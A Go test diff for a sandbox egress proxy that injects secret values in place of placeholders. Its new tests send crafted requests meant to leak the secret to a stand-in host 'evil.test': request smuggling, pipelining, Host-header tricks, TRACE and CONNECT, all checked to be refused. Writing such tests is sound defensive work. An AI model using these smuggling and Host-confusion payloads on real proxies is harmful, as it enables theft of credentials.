@@ -6,6 +6,7 @@ import (
 	"crypto/x509"
 	"fmt"
 	"io"
+	"net"
 	"net/http"
 	"net/http/httptest"
 	"os"
@@ -237,5 +238,179 @@ func BenchmarkTransparentSecretRequest(b *testing.B) {
 				tc.Close()
 			}
 		})
+	}
+}
+
+// TestTransparentSecretsTricks: what code in a box could try on a
+// connection to its secret's host to get the value sent elsewhere or
+// back: a Host a front end could read as another host (a port that is
+// not a number, a list), TRACE (the destination echoes the request),
+// plain HTTP (the value in the clear on the network), and a Host in
+// another spelling (the destination gets the name itself).
+func TestTransparentSecretsTricks(t *testing.T) {
+	roots, cert := testRoots(t, "api.test")
+	var hosts sync.Map // every Host the destination got
+	api := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		hosts.Store(r.Host, true)
+		fmt.Fprintf(w, "method=%s host=%s auth=%s", r.Method, r.Host, r.Header.Get("Authorization"))
+	}))
+	api.TLS = &tls.Config{Certificates: []tls.Certificate{cert}}
+	api.StartTLS()
+	t.Cleanup(api.Close)
+	plain, plainSeen := secretOrigin(t, nil)
+	pa, pp := port(api.Listener.Addr().String()), port(plain.Listener.Addr().String())
+	ca, err := LoadCA(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	const ph = PlaceholderPrefix + "0123456789abcdef"
+	secrets := []Secret{{Name: "API_KEY", Placeholder: ph, Value: "sk-real-value", Hosts: []Rule{{Domain: "api.test"}}}}
+	b := newBox(t, TransparentOptions{
+		Trusted: []string{"api.test:" + pa, "api.test:" + pp}, Resolve: names("", "127.0.0.1"), CA: ca, Roots: roots,
+		Secrets: func(string) []Secret { return secrets },
+	}, &Policy{Mode: ModeInternet}, nil)
+	go func() {
+		for range b.events {
+		}
+	}()
+	boxRoots := x509.NewCertPool()
+	boxRoots.AppendCertsFromPEM(ca.CertPEM())
+	// send writes head (Authorization: the placeholder) to api.test, over
+	// TLS or not, and reads the answer.
+	send := func(secure bool, p, method, host string) (int, string) {
+		t.Helper()
+		var c net.Conn = b.dial("api.test:" + p)
+		_ = c.SetDeadline(time.Now().Add(10 * time.Second))
+		if secure {
+			c = tls.Client(c, &tls.Config{ServerName: "api.test", RootCAs: boxRoots})
+		}
+		defer c.Close()
+		fmt.Fprintf(c, "%s / HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n", method, host, ph)
+		res, err := http.ReadResponse(bufio.NewReader(c), nil)
+		if err != nil {
+			t.Fatalf("%s Host %s: %v", method, host, err)
+		}
+		defer res.Body.Close()
+		body, _ := io.ReadAll(res.Body)
+		return res.StatusCode, string(body)
+	}
+	for _, h := range []string{"api.test:evil.test", "api.test:" + pa + ",evil.test", "api.test:1" + pa + "0"} {
+		if code, body := send(true, pa, "GET", h); code != http.StatusForbidden {
+			t.Errorf("Host %q: %d %q", h, code, body)
+		}
+	}
+	for _, m := range []string{"TRACE", "trace", "TRACK"} {
+		if code, body := send(true, pa, m, "api.test"); code != http.StatusForbidden {
+			t.Errorf("%s: %d %q", m, code, body)
+		}
+	}
+	if code, body := send(false, pp, "GET", "api.test"); code != http.StatusForbidden || !strings.Contains(body, "only over TLS") {
+		t.Errorf("the placeholder in plain HTTP: %d %q", code, body)
+	}
+	plainSeen.Range(func(k, _ any) bool {
+		if strings.Contains(k.(string), "sk-real-value") || strings.Contains(k.(string), PlaceholderPrefix) {
+			t.Errorf("plain HTTP carried %q", k)
+		}
+		return true
+	})
+	// Smuggling and pipelining on one connection: a second request to
+	// another host, hidden in a body whose length reads two ways, or
+	// written after the first, is read by the egress as a request of its
+	// own and refused; absolute-form names its own host, CONNECT and
+	// HTTP/1.0 without Host are refused.
+	for _, raw := range []string{
+		"POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
+		"GET / HTTP/1.1\r\nHost: api.test\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
+		"GET http://evil.test/ HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
+		"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
+		"GET / HTTP/1.0\r\nAuthorization: Bearer " + ph + "\r\n\r\n",
+	} {
+		c := tls.Client(b.dial("api.test:"+pa), &tls.Config{ServerName: "api.test", RootCAs: boxRoots})
+		_ = c.SetDeadline(time.Now().Add(10 * time.Second))
+		io.WriteString(c, raw)
+		got, _ := io.ReadAll(c)
+		c.Close()
+		if strings.Contains(string(got), "sk-real-value") || strings.Contains(string(got), "evil.test auth") {
+			t.Errorf("%q: %q", raw, got)
+		}
+	}
+	hosts.Range(func(k, _ any) bool {
+		if strings.Contains(k.(string), "evil") {
+			t.Errorf("the destination got Host %q", k)
+		}
+		return true
+	})
+	hosts.Clear()
+	// Another spelling of the name: the destination gets the name.
+	if code, body := send(true, pa, "GET", "API.Test.:"+pa); code != 200 || !strings.Contains(body, "host=api.test:"+pa+" ") || !strings.Contains(body, "auth=Bearer sk-real-value") {
+		t.Errorf("Host in capitals with a dot: %d %q", code, body)
+	}
+	hosts.Range(func(k, _ any) bool {
+		if k.(string) != "api.test:"+pa {
+			t.Errorf("the destination got Host %q", k)
+		}
+		return true
+	})
+}
+
+// TestParseSecretHost: a wildcard over a top-level domain is refused.
+func TestParseSecretHost(t *testing.T) {
+	for _, h := range []string{"*.com", "*.test.", "api.test:443", "1.2.3.4", "*"} {
+		if _, err := ParseSecretHost(h); err == nil {
+			t.Errorf("%q taken", h)
+		}
+	}
+	for _, h := range []string{"api.test", "*.example.com", "localhost"} {
+		if _, err := ParseSecretHost(h); err != nil {
+			t.Errorf("%q: %v", h, err)
+		}
+	}
+}
+
+// TestTransparentSecretRemovedOnOpenConnection: once a secret is
+// removed, a connection the box kept open to its host gets its value no
+// more (the placeholder goes as it is).
+func TestTransparentSecretRemovedOnOpenConnection(t *testing.T) {
+	roots, cert := testRoots(t, "api.test")
+	api, _ := secretOrigin(t, &cert)
+	pa := port(api.Listener.Addr().String())
+	ca, err := LoadCA(t.TempDir())
+	if err != nil {
+		t.Fatal(err)
+	}
+	const ph = PlaceholderPrefix + "0123456789abcdef"
+	var cur sync.Map
+	cur.Store("s", []Secret{{Name: "API_KEY", Placeholder: ph, Value: "sk-real-value", Hosts: []Rule{{Domain: "api.test"}}}})
+	b := newBox(t, TransparentOptions{
+		Trusted: []string{"api.test:" + pa}, Resolve: names("", "127.0.0.1"), CA: ca, Roots: roots,
+		Secrets: func(string) []Secret { v, _ := cur.Load("s"); return v.([]Secret) },
+	}, &Policy{Mode: ModeInternet}, nil)
+	go func() {
+		for range b.events {
+		}
+	}()
+	boxRoots := x509.NewCertPool()
+	boxRoots.AppendCertsFromPEM(ca.CertPEM())
+	c := tls.Client(b.dial("api.test:"+pa), &tls.Config{ServerName: "api.test", RootCAs: boxRoots})
+	_ = c.SetDeadline(time.Now().Add(10 * time.Second))
+	defer c.Close()
+	br := bufio.NewReader(c)
+	get := func() string {
+		t.Helper()
+		fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer %s\r\n\r\n", ph)
+		res, err := http.ReadResponse(br, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer res.Body.Close()
+		body, _ := io.ReadAll(res.Body)
+		return string(body)
+	}
+	if body := get(); !strings.Contains(body, "auth=Bearer sk-real-value") {
+		t.Fatalf("before: %q", body)
+	}
+	cur.Store("s", []Secret{})
+	if body := get(); strings.Contains(body, "sk-real-value") {
+		t.Errorf("the removed secret's value was sent on the open connection: %q", body)
 	}
 }
